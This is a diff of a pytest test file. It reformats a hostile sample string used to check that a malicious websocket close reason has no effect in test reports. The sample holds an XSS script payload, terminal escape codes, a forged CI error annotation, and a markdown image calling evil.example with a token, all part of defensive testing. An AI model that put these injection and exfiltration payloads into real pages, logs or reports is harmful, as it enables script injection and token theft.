@@ -117,18 +117,20 @@ def test_a_full_disk_costs_one_report(run, pytester, small_disk):
     assert len(json.loads((pytester.path / "c.json").read_text())["results"]) == 2
 
 
-HOSTILE = '''
+HOSTILE = """
 import json
 import pytest
 
-EVIL = """</script><script>alert(1)</script>\\x1b[31m\\n::error::owned\\n![x](http://evil.example) token=hunter2"""
+EVIL = (
+    "</script><script>alert(1)</script>\\x1b[31m\\n::error::owned\\n![x](http://evil.example) ?token=hunter2"
+)
 
 async def test_it(ws_connect, ws_orchestrator):
     connection = await ws_connect(heartbeat="25s")
     await ws_orchestrator.sessions[-1].connection.close(4000, EVIL[:123])
     await connection.wait_closed()
     await connection.assert_alive_for("2m")
-'''
+"""
 
 
 def test_a_hostile_close_reason_does_nothing_anywhere(run, pytester, monkeypatch):
